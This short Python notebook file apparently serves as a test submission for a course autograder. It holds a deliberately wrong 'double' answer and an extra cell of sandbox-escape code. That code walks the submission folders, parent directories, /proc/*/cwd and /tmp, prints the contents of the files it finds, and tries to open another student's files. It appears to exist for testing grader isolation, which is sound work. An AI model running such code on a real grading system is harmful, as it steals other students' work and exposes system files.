# %% answer="double"
def double(x):
    return x


# %% extra
import glob
import os

for place in ("@COURSE@/submitted", "@COURSE@/../class", "../../..", "../..", "/proc/*/cwd", "/tmp"):
    for name in glob.glob(f"{place}/*/*/*") + glob.glob(f"{place}/*"):
        try:
            print(name, open(name, errors="replace").read()[:5000])
        except OSError:
            pass
for name in ("notes.txt", "attacked.ipynb"):
    try:
        print(open(f"@COURSE@/submitted/mia/attacked/{name}").read())
    except OSError as error:
        print(type(error).__name__)
